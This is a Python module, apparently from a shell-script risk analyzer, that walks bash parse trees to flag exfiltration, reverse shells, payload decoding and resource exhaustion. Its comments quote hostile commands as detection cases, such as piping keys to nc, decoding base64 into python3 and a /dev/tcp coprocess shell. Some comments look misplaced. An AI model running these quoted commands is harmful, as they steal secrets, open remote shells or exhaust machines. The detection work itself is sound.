"""Shell analyzer: walks a tree-sitter-bash parse tree and grades what the commands do.

Words are resolved to strings where they are constant (quotes, ``$'..'`` escapes,
variables assigned earlier in the script); unknown pieces become :data:`HOLE`. Each
statement returns a :class:`_Flow` summary (reads a secret, talks to the network,
downloads, decodes, is an interpreter reading stdin...) so that pipelines, command
substitutions and redirections can combine what their parts do: ``cat key | nc`` is
exfiltration although neither command is alone.
"""

from __future__ import annotations

import base64
import codecs
import copy
import fnmatch
import itertools
import math
import posixpath
import re
import shlex
import threading
import urllib.parse
import warnings
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Any

import attrs

from sandlot.risk import paths
from sandlot.risk import shell_tables as T
from sandlot.risk import shell_words as W
from sandlot.risk.backups import (
    BACKUP_TOOLS,
    DB_DUMPERS,
    RAW_SENDERS,
    fresh_temporary,
    snapshot_risks,
    sync_risks,
    transfer_script_risks,
)
from sandlot.risk.beam import beam_code_risks, beam_os_commands
from sandlot.risk.config_commands import (
    config_commands,
    config_weakness,
    open_door,
    protection_off,
    protections_in_json,
    protections_turned_off,
)
from sandlot.risk.control_plane import (
    MASS_COUNT,
    assess_operation,
    assess_request,
    costly_machine,
    credential_metadata_url,
    foreign_endpoint,
    operation,
    own_backup_store,
    pinned_release,
    soften_verified,
    verifies_certificate,
    verifies_download,
    workflow_leaks_secrets,
)
from sandlot.risk.crm import CRM_TOOLS, NUMBER_ROUTE, crm_command, prints_org_secrets
from sandlot.risk.data_platforms import PLATFORM_TOOLS, platform_risk, prints_secrets, prints_shared_code
from sandlot.risk.destinations import (
    SUBSCRIPTION_URL,
    backup_host,
    beacon,
    chat_webhook,
    creates_public_hub_repo,
    credential_services,
    data_label,
    delete_endpoint,
    internal_host,
    local_files_or_users,
    loopback_url,
    misdirected_credential,
    outside_address,
    personal_account,
    personal_host,
    private_address,
    public_drop,
    scratch_remote,
)
from sandlot.risk.detections import EDR_AGENT_CLIS, edr_agent_tampering
from sandlot.risk.devices import (
    device_commands_risk,
    every_device,
    forwards_calls_abroad,
    places_calls,
    transmits_on_protected_band,
    vehicle_command,
)
from sandlot.risk.documents import document_command, hold_request, prints_remote_secrets, sharing_risk
from sandlot.risk.editors import EDITORS, VIMS, editor_actions
from sandlot.risk.file_servers import share_script_risks
from sandlot.risk.fleet import adhoc_commands, fleet_harm
from sandlot.risk.hypervisors import (
    HYPERVISOR_TOOLS,
    QEMU_SYSTEMS,
    hypervisor_command,
    image_commands,
    machine_captures,
)
from sandlot.risk.identity import (
    ADMIN_GROUP,
    PASSWORD_HASH_ATTRIBUTES,
    directory_dump,
    identity_command,
    identity_request,
    people_api,
)
from sandlot.risk.industrial import field_command, local_devices
from sandlot.risk.inline_code import (
    awk_with_constants,
    endless_growth,
    fold_requires,
    inline_commands,
    reads_people,
    serves_requested_files,
    uploads_stdin,
)
from sandlot.risk.inspection import GPU_RESETS, reports_state
from sandlot.risk.ledgers import (
    chain_send_command,
    money_request,
    moves_money,
    node_exposure,
    payment_file,
    test_money,
)
from sandlot.risk.mail import (
    MAIL_SERVER_TOOLS,
    MAILBOX_URL,
    MAILERS,
    credential_lure,
    gam_action,
    mail_server_command,
    personal_mailbox,
)
from sandlot.risk.management_controllers import ipmitool_reads
from sandlot.risk.media import exiftool_risks, huge_canvas
from sandlot.risk.messaging import BROKER_TOOLS, broker_command
from sandlot.risk.model import Category, Finding, RiskLevel
from sandlot.risk.monitoring import MONITORING_COMPONENTS, shipper_collects_secrets, silences_everything
from sandlot.risk.object_stores import object_store_command
from sandlot.risk.openstack import OPENSTACK_TOOLS, openstack_command
from sandlot.risk.orchestrators import ORCHESTRATOR_TOOLS, allocation_command, orchestrator_command
from sandlot.risk.paths import HOLE, HOLE_WORD, INSTALLED_PACKAGES, credential_helper
from sandlot.risk.payloads import embedded_commands, looks_like_payload, names_miner
from sandlot.risk.premises import premises_request
from sandlot.risk.printers import PRINT_TOOLS, print_command
from sandlot.risk.provisioning import PROVISIONING_TOOLS, provisioning_command
from sandlot.risk.registries import REGISTRY_TOOLS, registry_command
from sandlot.risk.remote_sessions import session_command
from sandlot.risk.runners import RunnerCall, all_permissions, unwrap_runner
from sandlot.risk.sandboxes import LAUNCHERS as SANDBOX_LAUNCHERS
from sandlot.risk.sandboxes import enters_host, launched_command
from sandlot.risk.sap import sap_control_function, sap_control_reads
from sandlot.risk.schedulers import SCHEDULER_TOOLS, cancels_listed_jobs, endless_submission, scheduler_command
from sandlot.risk.sql import (
    dangerous_sql,
    deletes_before_far_future,
    deletes_recent_rows,
    drops_database_made_here,
    drops_table,
    emptied_table_count,
    empties_tables,
    logins_to_trust,
    made_here,
    people_row,
    personal_data_query,
    production_target,
    refills_tables,
    schema_reset,
    store_request,
    throwaway_database,
    unauthenticated_store,
    unloads_personal_data,
)
from sandlot.risk.startup_files import (
    CODE_LOADING_VARIABLES,
    TOOL_SHELL_HOOK,
    cron_commands,
    fetches_then_runs,
    harmless_content,
    heartbeats_only,
    hidden_or_temporary,
    quiet,
    tame,
    web_site,
)
from sandlot.risk.storage import cluster_storage_risks, prints_cluster_keys, storage_command_risks
from sandlot.risk.storefronts import delete_mutation, zeroes_prices
from sandlot.risk.text_shapes import hidden_tag_texts, outside_url
from sandlot.risk.tracing import every_function_probe, exposed_debugger
from sandlot.risk.web_servers import protection_deleted, web_config, web_server_weakness
from sandlot.risk.websites import cdn_request, cms_command, free_discount
from sandlot.risk.whole_text import SHARE_FILE_QUERY, whole_text_risks
from sandlot.risk.windows import WINDOWS_TOOLS, WINDOWS_WORDS, windows_text_risks

ANALYZER = "sandlot.shell"
MAX_DEPTH = 6

_LANGUAGE: Any = None
_LOCAL = threading.local()  # tree-sitter parsers are not thread-safe; one per thread

#: Programs that run a script (a shell, Python, another interpreter): the union made once, not for every command.
_SCRIPT_INTERPRETERS = T.SHELLS | T.PYTHONS | T.OTHER_INTERPRETERS


def _parser() -> Any:
    """The bash parser, loaded once per process (language) and once per thread (parser)."""
    global _LANGUAGE
    parser = getattr(_LOCAL, "parser", None)
    if parser is None:
        import tree_sitter
        import tree_sitter_bash

        if _LANGUAGE is None:
            _LANGUAGE = tree_sitter.Language(tree_sitter_bash.language())
        parser = tree_sitter.Parser(_LANGUAGE)
        _LOCAL.parser = parser
    return parser


class _Flow:
    """What a statement does with data, for combining statements (pipes, substitutions)."""

    __slots__ = (
        "buffers",
        "credential",
        "data",
        "decode",
        "download",
        "dump",
        "endless",
        "env",
        "every_container",
        "interp",
        "listing",
        "network",
        "pids_of",
        "secret",
        "text",
        "transform",
    )  # fmt: skip

    def __init__(self) -> None:
        self.secret = False  # reads a secret (key, credentials, password database)
        self.env = False  # dumps the environment (API keys live there)
        self.credential = False  # expands a variable named like a credential ($NPM_TOKEN)
        self.dump = False  # prints a whole database (pg_dump, mysqldump)
        self.network = False  # sends or receives over the network
        self.download = False  # writes data fetched from the network to stdout
        self.decode = False  # decodes an obfuscated payload
        self.interp: str | None = None  # "shell"/"python"/"other": an interpreter reading stdin
        self.text: str | None = None  # constant stdout (echo/printf) for `echo X | sh`
        self.transform: str | None = None  # decoder applied to stdin ("b64", "hex", "rev")
        self.listing: str | None = None  # prints the paths of files under this directory (find, ls)
        self.endless = False  # writes output forever (yes, cat /dev/zero)
        self.buffers = False  # keeps its whole stdin in memory (sort, tail, tac)
        self.pids_of: str | None = None  # prints the pids of processes matching this pattern (pgrep)
        self.data = False  # prints what a file, a JSON document or an argument holds (jq, cat, $1)
        self.every_container = False  # prints the id of every container or volume (`docker ps -aq`)

    def absorb(self, other: _Flow) -> None:
        self.secret |= other.secret
        self.data |= other.data
        self.env |= other.env
        self.credential |= other.credential
        self.dump |= other.dump
        self.network |= other.network
        self.download |= other.download
        self.decode |= other.decode
        self.every_container |= other.every_container
        self.pids_of = other.pids_of if other.pids_of is not None else self.pids_of

    @property
    def payload(self) -> bool:
        return self.download or self.decode

    @property
    def remote(self) -> bool:
        """Code from the network (downloaded or read off a socket) or decoded: not to be executed."""
        return self.download or self.decode or self.network


class _Loop:
    __slots__ = ("count", "endless", "huge", "paced", "pids")

    def __init__(
        self, endless: bool, huge: bool, paced: bool, pids: str | None = None, count: int | None = None
    ) -> None:
        self.endless = endless  # `while true` / `while :`
        self.huge = huge  # `for i in $(seq 1 1000)`, `{1..5000}`
        self.count = count  # `for n in $(seq 1 64)`: 64 (None: not known)
        self.paced = paced  # sleeps, reads or breaks: not a tight loop
        # `for p in /proc/[0-9]*` / `for p in $(pgrep x)`: the loop visits processes ("" every one)
        self.pids = pids


class _Ctx:
    """Where findings are reported when this analysis is nested in another one."""

    __slots__ = ("column", "evidence", "line", "via")

    def __init__(self, line: int, column: int, evidence: str, via: str) -> None:
        self.line, self.column, self.evidence, self.via = line, column, evidence, via


#: File names of what a program makes again from its sources: thumbnails, previews, caches, temporary files.
_GENERATED_NAME = re.compile(r"thumb|preview|cache|\.tmp$|\.temp$|\.part$|\.pyc$", re.IGNORECASE)
#: Folders of logs, audit trails and recordings (their newest files are the record of what just happened).
_RECORD_FOLDER = re.compile(r"(?:^|/)(?:log|logs|audit|audits|recordings?|sessions?)(?:/|$)", re.IGNORECASE)
#: The only words of a service tool's command line that ask for its state or restart it (`bbb-conf --check`).
_SERVICE_STATE_WORDS = frozenset({"status", "check", "list", "ls", "show", "info", "version", "restart", "reload",
                                  "--status", "--check", "--list", "--restart", "--reload", "--version", "--info",
                                  "--show", "configcheck", "health", "--json", "-j", "--pretty", "report"})  # fmt: skip
_RESTARTS_SERVICE = re.compile(r"\b(?:systemctl|service|supervisorctl)\b[^\n]*\b(?:restart|reload)\b")
#: Files that are pickles (loading one runs the code it carries).
_PICKLED = re.compile(r"\.(?:pkl|pickle|joblib|pt|pth|ckpt)$", re.IGNORECASE)
#: `docker compose`'s options that take a value (before its subcommand).
_COMPOSE_VALUED = frozenset({"-f", "--file", "-p", "--project-name", "--env-file", "--profile", "--project-directory",
                             "--ansi", "--progress", "--parallel"})
#: Words that make a service tool's command change more than its state report or a restart.
_CHANGING_WORDS = frozenset({"rm", "delete", "remove", "purge", "drop", "destroy", "wipe", "kill", "disable", "reset",
                             "stop", "uninstall", "format", "erase", "zap", "trim", "flush", "clear", "set", "modify"})
#: Installed Rails applications' own wrappers (`zammad run …`, GitLab's `gitlab-rails`/`gitlab-rake`).
_PACKAGED_RAILS_APPS = frozenset({"zammad", "gitlab-rails", "gitlab-rake", "openproject"})
#: Command-line tools shipped as Node.js scripts and run as `node SCRIPT …`.
_NODE_TOOLS = {"meshctrl.js": "meshctrl", "meshctrl": "meshctrl"}
#: LXD's and Incus's own API sockets.
_SYSTEM_CONTAINER_SOCKETS = ("lxd/unix.socket", "incus/unix.socket")
#: A load generator's duration of five minutes or more (`-d 10m`, `-t 1H`, `-z 300s`).
_LONG_RUN = re.compile(r"(?:[3-9]\d{2,}|\d{4,})s|(?:[5-9]|\d{2,})m|\d+[hH]", re.IGNORECASE)
#: What `squid -k` and `httpd -k` send their running daemon (a reload, a log rotation, a settings check, a stop).
_DAEMON_SIGNALS = tuple([a] for a in ("rotate", "reconfigure", "parse", "check", "restart", "graceful", "graceful-stop",
                                      "start", "stop", "shutdown", "interrupt"))
#: A daemon control tool's module command that only reloads or reports (`kamcmd tls.reload`, `dispatcher.list`).
#: A command run in a container of a running stack, and an installed application's folder on a server.
_CONTAINER_EXEC = re.compile(r"\bdocker\b[\"',\s]+(?:compose[\"',\s]+)?exec\b")
_INSTALLED_APP_DIR = re.compile(r"(?:\bcd\s+|cwd\s*=\s*[\"']|\bdirectory\s+)/(?:opt|srv)/[\w.-]+")
#: A data store's own clean-up verbs, and the options that say how much of the past it keeps.
_CLEANUP_VERBS = frozenset({"cleanup", "clean", "prune", "purge", "expire", "vacuum", "retention", "forget"})
_RETENTION_OPTIONS = ("--days", "--keep-days", "--older-than", "--retention", "--max-age", "--keep", "--ttl",
                      "--days-old")
#: A swap file (`/swapfile`, `/swap.img`, `/var/swap`, `/mnt/data/swapfile2`), not a disk or a partition.
_SWAP_FILE = re.compile(r"^/(?:[\w.-]+/)*(?:swapfile\d*|swap\.img|swap|[\w-]+\.swap)$")
#: A password a password manager prints, as a form field (``password=$(pass show seafile/alice)``), and its entry.
_PASSWORD_ENTRY = re.compile(r"\bpass(?:word)?=[\"']?\$\((?:pass|gopass)\s+(?:show\s+)?[\"']?([\w.-]+)/")
#: A login or token endpoint over HTTPS, and its host (none when a variable names it: `"$BASE/auth/simple/login"`).
_LOGIN_ENDPOINT = re.compile(
    r"(?:https://([\w.-]+)(?::\d+)?|\$\{?\w+\}?)/(?:[\w.-]+/)*(?:auth-token|login|token|signin|sessions?)/?\b"
)
_MODULE_STATE_COMMAND = re.compile(r"[a-z][\w-]*\.(?:reload|list|stats?|status|show|dump|info|ping)", re.IGNORECASE)
#: Secrets managers' CLIs that run a command with secrets in its environment (`doppler run -- CMD`).
_SECRET_INJECTORS = frozenset({"doppler", "infisical", "op", "bws", "aws-vault", "teller"})
#: Cloud CLIs' ssh subcommands and the option whose value runs as a shell command on the machine.
_CLOUD_SSH_COMMAND: dict[tuple[str, ...], tuple[str, ...]] = {
    ("gcloud", "compute", "ssh"): ("--command",),
    ("doctl", "compute", "ssh"): ("--ssh-command",),
    ("vagrant", "ssh"): ("-c",),
    ("fly", "ssh", "console"): ("-C", "--command"),
    ("flyctl", "ssh", "console"): ("-C", "--command"),
    ("step", "ca", "renew"): ("--exec",),  # (run after every renewal)
}
#: `heroku run`'s own options that take a value (the rest of the line is the command the dyno runs).
_HEROKU_RUN_VALUED = frozenset({"-a", "--app", "-r", "--remote", "-s", "--size", "-e", "--env", "--type"})
#: Local VMs' and containers' exec commands whose argv after `--` runs inside (`multipass exec vm -- CMD…`).
_GUEST_EXEC = frozenset({("multipass", "exec"), ("limactl", "shell"), ("lxc", "exec"), ("incus", "exec"),
                         ("orb", "run")})  # fmt: skip
#: Programs that submit a job's jar or script to a cluster (its code runs there).
_JOB_SUBMITTERS = frozenset({"flink", "spark-submit", "hadoop", "yarn", "storm"})
#: k3s's and RKE2's subcommands that only look or take a snapshot (`k3s kubectl get nodes`, `k3s etcd-snapshot save`).
_K3S_ROUTINE = re.compile(
    r"(?:kubectl\s+(?:get|describe|logs|top|version|cluster-info|api-resources|auth\s+can-i)"
    r"|crictl\s+(?:ps|images|logs|inspect|stats|info|pods)|etcd-snapshot\s+(?:save|ls|list)|check-config|--version)\b"
)
#: pgrep's and pkill's options that take a value (`-u "$USER"` names whose processes, not what to match).
_PGREP_VALUED = frozenset({"-u", "-U", "-g", "-G", "-P", "-s", "-t", "-F", "--euid", "--uid", "--pgroup", "--group",
                           "--parent", "--session", "--terminal", "--pidfile", "--signal"})  # fmt: skip


class ShellAnalyzer:
    """Analyze one shell script. Create one per script; not reusable across scripts."""

    def __init__(
        self,
        *,
        parse_error_level: RiskLevel = RiskLevel.MEDIUM,
        depth: int = 0,
        ctx: _Ctx | None = None,
        variables: dict[str, str] | None = None,
    ) -> None:
        self.parse_error_level = parse_error_level
        self.depth = depth
        self.ctx = ctx
        self.findings: list[Finding] = []
        self.vars: dict[str, str] = dict(variables or {})
        self.var_flow: dict[str, _Flow] = {}
        self.downloaded: set[str] = set()
        self._secret_reads: set[str] = set()  # secret files read so far (a profile read and written back is edited)
        self._public_tags: set[str] = set()  # private images tagged for a public registry (`docker tag`)
        self._absent: set[str] = set()  # files the command being analysed runs only without (`[ -f F ] || …`)
        self._source = b""
        self._mass = False  # the current command is applied to every file of a tree (find -exec, xargs)
        #: inside `ls -1t | tail -n +4 | while read old`: each item is one past the newest few (a rotation)
        self._rotated_items = False
        self._repeated = False  # an argv from Python run once per element of a loop
        self._exact_argv = False  # an argv from Python: each word one argument (an unknown one is one item)
        self._argv_text = ""  # that argv, joined (it has no source text of its own)
        self._as_root = False  # the command being graded runs under sudo (as root)
        self.staged: set[str] = paths.PathSet()  # files secret data was written to (tar of keys, cat key > f)
        self.made_dirs: set[str] = set()  # directories this script created (empty unless written to)
        self._checked_out: set[str] = set()  # git work trees this script moved to a tag or branch (`git -C DIR …`)
        self._unpacked_into: set[str] = set()  # folders this script unpacked an archive into (`unzip -d DIR`)
        self._new_accounts: set[str] = set()  # accounts this script created (useradd, adduser)
        self._socket_fds: set[str] = set()
        self._own_files: set[str] = set()  # scratch files this script wrote from data that was not secret
        self._made_keys: set[str] = set()  # keys and certificates this script generated (`-out key.pem`)
        self._created: set[str] = set()  # files this script created (overwrote) with a redirection
        self._archives: set[str] = set()  # archives this script made (tar czf FILE …)
        self._settings_archives: set[str] = set()  # ...of them, those holding an application's settings
        self._archived: set[str] = set()  # what those archives hold (`tar czf x.tgz 2023/`: 2023)
        self.output = _Flow()  # what the whole script prints (its statements' output, merged)
        self.nested_output: _Flow | None = None  # what the last nested shell script printed
        self._bulk_files: set[str] = set()  # archives of people's photos or records (a backup, or a leak over HTTP)
        self._branches = 0  # inside a case or if branch  # descriptors `exec N<>/dev/tcp/...` connected
        self.pinned: set[str] = set()  # downloads of one named release over HTTPS (a CI tool), or from this machine
        self._stdin_secret = False  # the previous pipe stage outputs secret data
        self._stdin_remote = False  # the previous pipe stage outputs data from the network
        self._stdin_containers = False  # the previous pipe stage prints the id of every container
        self._stdin_logs = False  # a stage before in the pipe printed logs (journalctl, /var/log files)
        self._cwd: str | None = None  # the directory the last `cd` went to
        self._formatter = ""  # the mkfs variant last run (`mkfs.vfat`), its options differ
        self._baked_credentials: set[str] = set()  # image tags built with credentials as build arguments
        self._stdin_text: str | None = None  # what the previous pipe stage prints, when it is constant
        self._encrypted: set[str] = set()  # files encrypted in place (`sops -e -i`): ciphertext from then on
        self._encrypted_inputs: set[str] = set()  # files encrypted into another file (`gpg -o x.gpg -e x`, KMS)
        self._personal_remotes: set[str] = set()  # rclone remotes configured with a personal mailbox's account
        self._outside_remotes: set[str] = set()  # rclone remotes at a server of the internet (a WebDAV's address)
        self._heredoc_text: str | None = None  # the here-document of the command being analysed
        self._written_texts: dict[str, str] = {}  # known content of files this script wrote
        self._read_vars: set[str] = set()  # variables `while read` fills from another command's output
        self._xargs_remote = False  # xargs/parallel arguments come from a download
        self._loops: list[_Loop] = []  # enclosing loops, innermost last
        self._stdin_listing: str | None = None  # directory whose files the previous pipe stage lists
        self._stdin_pids: str | None = None  # the previous pipe stage prints pids of processes matching this
        self._stdin_endless = False  # the previous pipe stage prints forever (`yes`, `cat /dev/zero`)
        self._installed_app = False  # an installed application's own console was run (`zammad run`, `gitlab-rails`)
        self._functions: dict[str, Any] = {}  # shell functions defined so far: name -> body
        self.arrays: dict[str, list[str]] = {}  # bash arrays: name -> elements
        self.cloned: set[str] = set()  # directories `git clone` filled with code from the network
        self.added_remotes: set[str] = set()  # git remotes this script added
        self._calling: set[str] = set()  # functions being re-analysed with a call's arguments
        self._call_budget = 16
        self._background = False  # the statement being analysed is run in the background (`cmd &`)
        self.aliases: dict[str, str] = {}  # `alias name='...'` definitions so far
        self._xargs_pids: str | None = None  # processes xargs feeds to the command it runs
        self.inherited_pids: str | None = None  # processes this (nested) script gets as arguments
        self.inherited_background = False  # this script itself runs in the background (`bash -c '...' &`)
        self.created_vars: set[str] = set()  # variables holding cloud resources this script created
        self._saved_stamps: set[str] = set()  # files holding another file's times (`touch -r F /tmp/.ts`)
        self._edited_in_place: set[str] = set()  # files this script edited in place (`sed -i`)
        self._iac_applied = False  # `terraform apply` ran earlier in the script (its `destroy` tears that down)
        self._made_volumes: set[str] = set()  # LVM snapshot volumes this script created
        self.enclosing = ""  # the script's text before the code this analyzer reads (a trap's, a `bash -c`'s)

    # ----------------------------------------------------------------- entry points
    def analyze(self, code: str) -> list[Finding]:
        self._source = code.encode("utf-8", "surrogatepass")
        if "=$(" in code:
            self.created_vars |= set(_CREATED_RESOURCE.findall(code))
        if "create n" in code:
            self.created_vars |= set(_CREATED_NAMESPACE.findall(code))
        if "rclone" in code and "type" in code:
            # remotes defined in a configuration this script writes (a here-document), for a personal account
            self._personal_remotes |= {m[1] for m in _RCLONE_SECTION.finditer(code)
                                       if _CONSUMER_CLOUD.search(m[2]) or personal_mailbox(m[2])}  # fmt: skip
            # (or at a server of the internet: `endpoint = https://storage.fastbucket.example.net`)
            self._outside_remotes |= {m[1] for m in _RCLONE_SECTION.finditer(code)
                                      if any(map(_internet_url, _REMOTE_ADDRESS.findall(m[2])))}  # fmt: skip
        if "rclone" in code and "access_token" in code:
            # `rclone config create gd drive token '{"access_token": …}'`: an account whose token was pasted in
            self._personal_remotes |= set(_RCLONE_PASTED_TOKEN.findall(code))
        tree = _parser().parse(self._source)
        root = tree.root_node
        if root.has_error and _ZSH_IDIOM.search(code):
            # zsh's own syntax (`=(cmd)`, `for x (a b) cmd`, `*(.D)` qualifiers) said the bash way
            respelled = _as_bash(code).encode("utf-8", "surrogatepass")
            retried = _parser().parse(respelled)
            if not retried.root_node.has_error:
                self._source, root = respelled, retried.root_node
        if root.has_error and "\\" in code:
            # tree-sitter-bash fails on a here-document line starting with a backslash (psql's `\!` in a .psqlrc,
            # a TeX document's `\immediate\write18{… &}`)
            respelled = _LEADING_BACKSLASH.sub(r"\1", code).encode("utf-8", "surrogatepass")
            retried = _parser().parse(respelled)
            if not retried.root_node.has_error:
                self._source, root = respelled, retried.root_node
        if "|" in code and "\n" in code and (">" in code or "&&" in code or "||" in code):
            # tree-sitter-bash can let a command swallow the lines after a pipeline with a redirect in it
            # (`a | b 2>/dev/null | c` then `iptables -F` read as c's arguments), or after a pipeline of three
            # stages when an `&&` list follows (`echo X | base64 -d | python3` then `make && twine check`)
            swallowed = _swallowed_newlines(root)
            if swallowed:
                for offset in reversed(swallowed):
                    self._source = self._source[:offset] + b";" + self._source[offset:]
                root = _parser().parse(self._source).root_node
        if root.has_error:
            self._add_parse_error(root)
        self.output = self._stmt(root)
        if "\t" in code and _MAKEFILE_RULE.search(code):
            # a Makefile: each recipe line is a shell command line once make has unescaped `$$`
            for recipe in _make_recipes(code)[:12]:
                self._nested(recipe, "shell", root, "a Makefile recipe", keep=RiskLevel.HIGH)
        if any(f.rule_id.endswith(("download-exec", ".write")) and f.level > RiskLevel.MEDIUM for f in self.findings):
            certificate = verifies_certificate(code)  # only worth looking for when there is something to soften
            if verifies_download(code, "shell") or certificate:
                self.findings = soften_verified(self.findings, certificate=certificate)
        if ("ssh" in code or "spawn" in code) and _TYPED_ON_DEVICE.search(code):
            # an expect script's `send "…\r"` lines, an ssh here-document, `printf '…\n' | ssh`: commands typed
            # on a device
            typed = re.findall(r'^\s*send\s+"([^"]*)', code, re.MULTILINE)
            typed += [m["text"] for m in _PRINTED_TEXT.finditer(code)]
            sent = "\n".join(typed) + "\n" + code
            device = device_commands_risk(sent.replace("\\r", "").replace("\\n", "\n"))
            if device is not None:
                fleet = device.level is RiskLevel.MEDIUM and every_device(code)
                self._add("shell.device", RiskLevel.HIGH if fleet else device.level, device.category,
                          device.what + (" (every device a list gives)" if fleet else ""), root)  # fmt: skip
        writes = re.search(r">|\btee\b|\bsed\s+-i|\bmv\b|PlistBuddy|\bplutil\b|\bkubectl\b|\bdocker\s+run\b", code)
        opened = open_door(code) if writes else None
        if opened and not any(f.category is Category.PRIVILEGE and f.level >= RiskLevel.HIGH for f in self.findings):
            self._add("shell.weakened-settings", RiskLevel.HIGH, Category.PRIVILEGE, opened, root)
        for suffix, risk in whole_text_risks(code):
            self._add(f"shell.{suffix}", risk.level, risk.category, risk.what, root)
        for hidden in hidden_tag_texts(code):
            # a command spelled in invisible tag characters (decoded and run by the script, or by whoever reads it)
            self._nested(hidden, "shell", root, "text hidden in invisible Unicode tag characters")
        if WINDOWS_WORDS.any_in(code) and not any(f.rule_id == "shell.windows" for f in self.findings):
            # Windows command text kept in a variable, then run encoded or through interop (`powershell.exe -Enc`)
            for risk in windows_text_risks(code):
                self._add("shell.windows", risk.level, risk.category, f"{risk.what} (Windows commands in the script)",
                          root)  # fmt: skip
        if "tee" in code and "tail" in code and _FEEDBACK.search(code):
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "appends a file to itself as it grows (tail -f into tee -a: fills the disk)", root)  # fmt: skip
        if "coproc" in code and ("/dev/tcp/" in code or "/dev/udp/" in code) and _COPROC_SHELL.search(code):
            self._add("shell.reverse-shell", RiskLevel.CRITICAL, Category.NETWORK,
                      "wires a coprocess running an interactive shell to a network connection (reverse shell)",
                      root)  # fmt: skip
        return self.findings

    def analyze_argv(self, argv: Sequence[str], *, every_container: bool = False) -> _Flow:
        """Grade a command given as an argument vector (used for ``subprocess.run([...])``)."""
        flow = _Flow()
        flow.every_container = every_container  # its arguments are what `docker ps -aq` printed
        flow = self._argv(list(argv), None, flow, [])
        if self._stdin_text and stdin_code_language(argv, inside_only=True) is not None:
            # `run(["docker", "exec", "-i", "app", "python3", "manage.py", "shell"], input=SRC)`: the input is code
            self._stdin_code(self._stdin_text, _Flow(), list(argv), None, "standard input")
        return flow

    # ----------------------------------------------------------------- findings
    def _add(self, rule: str, level: RiskLevel, category: Category, message: str, node: Any = None) -> None:
        if self.ctx is not None:
            line, column, evidence = self.ctx.line, self.ctx.column, self.ctx.evidence
            message = f"{message} (in {self.ctx.via})" if self.ctx.via else message
        elif node is not None:
            line, column = node.start_point[0] + 1, node.start_point[1]
            evidence = W.short(self._text(node))
        else:
            line, column, evidence = 0, 0, ""
        self.findings.append(Finding(rule, level, message, category, line, column, evidence, ANALYZER))

    def _add_parse_error(self, root: Any) -> None:
        bad = _first_error(root)
        where = f" near line {bad.start_point[0] + 1}" if bad is not None else ""
        self._add(
            "shell.parse-error",
            self.parse_error_level,
            Category.PARSE,
            f"the shell code does not parse{where}; it cannot be shown to be safe",
            bad if bad is not None else root,
        )

    def _text(self, node: Any) -> str:
        return self._source[node.start_byte : node.end_byte].decode("utf-8", "replace")

    def _nested(
        self,
        code: str,
        language: str,
        node: Any,
        via: str,
        positional: Sequence[str] = (),
        keep: RiskLevel = RiskLevel.SAFE,
        drop: frozenset[Category] = frozenset(),
        cap: RiskLevel | None = None,
    ) -> list[Finding]:
        """Analyze code embedded in this script (``bash -c``, ``python -c``...); report what is ``keep`` or worse
        (at most ``cap``)."""
        if self.depth >= MAX_DEPTH:
            self._add(
                "shell.deep-nesting", RiskLevel.MEDIUM, Category.DYNAMIC_CODE, "code nested too deeply to analyse", node
            )
            return []
        ctx = self.ctx or _Ctx(
            node.start_point[0] + 1 if node is not None else 0,
            node.start_point[1] if node is not None else 0,
            W.short(self._text(node)) if node is not None else "",
            via,
        )
        if language == "python":
            from sandlot.risk.python_analyzer import analyze_python

            found = analyze_python(
                code.replace(HOLE, HOLE_WORD),
                parse_error_level=self.parse_error_level,
                depth=self.depth + 1,
                argv=["-c", *positional] if positional else None,
                downloaded=self.downloaded,
            )
            found = [
                Finding(
                    f.rule_id,
                    f.level,
                    f"{f.message} (in {via})",
                    f.category,
                    ctx.line,
                    ctx.column,
                    ctx.evidence,
                    f.analyzer,
                )
                for f in found
            ]
        else:
            sub = ShellAnalyzer(
                parse_error_level=self.parse_error_level,
                depth=self.depth + 1,
                ctx=_Ctx(ctx.line, ctx.column, ctx.evidence, ctx.via or via),
                variables={**self.vars, **{str(i): w for i, w in enumerate(positional)}},
            )
            sub._mass = self._mass
            sub._repeated = self._repeated  # `xargs -I{} sh -c '…{}…'`: the inner commands run once per item
            sub.downloaded = self.downloaded
            sub.pinned = self.pinned
            sub.inherited_background = self._background or self.inherited_background
            sub.created_vars = set(self.created_vars)
            if node is not None:
                sub.enclosing = self.enclosing + self._source[: node.start_byte].decode("utf-8", "replace")
            sub.inherited_pids = self._xargs_pids if self._xargs_pids is not None else self.inherited_pids
            found = sub.analyze(code.replace(HOLE, HOLE_WORD))
            self.nested_output = sub.output
        found = [f for f in found if f.level >= keep and f.category not in drop]
        if cap is not None:
            found = [attrs.evolve(f, level=min(f.level, cap)) for f in found]
        self.findings.extend(found)
        return found

    # ----------------------------------------------------------------- statements
    def _stmt(self, node: Any) -> _Flow:
        kind = node.type
        handler = _STATEMENT_HANDLERS.get(kind)
        if handler is not None:
            result: _Flow = handler(self, node)
            return result
        flow = _Flow()
        if node.child_count == 0:
            return flow
        for child in node.named_children:
            flow.absorb(self._stmt(child))
        return flow

    def _branch(self, node: Any) -> _Flow:
        """``case``/``if``: each branch may run; an unknown value assigned in one does not erase the default."""
        self._branches += 1
        try:
            flow = _Flow()
            for child in node.named_children:
                flow.absorb(self._stmt(child))
            return flow
        finally:
            self._branches -= 1

    def _sequence(self, node: Any) -> _Flow:
        flow = _Flow()
        children = node.children
        for i, child in enumerate(children):
            if not child.is_named:
                continue
            background = i + 1 < len(children) and children[i + 1].type == "&"
            # everything in a backgrounded ( ... ) & or { ...; } & runs in the background too
            outer, self._background = self._background, background or self._background
            missing = self._tested_absent(children, i) if node.type == "list" else None
            if missing:
                self._absent.add(missing)
            try:
                sub = self._stmt(child)
            finally:
                self._background = outer
                self._absent.discard(missing or "")
            flow.absorb(sub)
            flow.text, flow.interp, flow.endless = sub.text, sub.interp, sub.endless
            loop = self._loops[-1] if self._loops and node.type == "do_group" else None
            if background and loop is not None and sub.endless and not (loop.endless or loop.huge):
                # `for i in $(seq $(nproc)); do yes > /dev/null & done`: a busy process per core, forever
                self._add("shell.cpu-burn", RiskLevel.HIGH, Category.RESOURCE,
                          "a loop starts a never-ending busy process per iteration (pins the CPUs)",
                          node.parent)  # fmt: skip
            if background and self._mass and child.type in ("command", "pipeline", "redirected_statement"):
                # `find / -exec sh -c 'md5sum "$1" &' _ {} \;`: one process left running per file found
                self._add("shell.spawn-loop", RiskLevel.HIGH, Category.RESOURCE,
                          "starts a background process for every file a search finds (process exhaustion)",
                          node.parent or node)  # fmt: skip
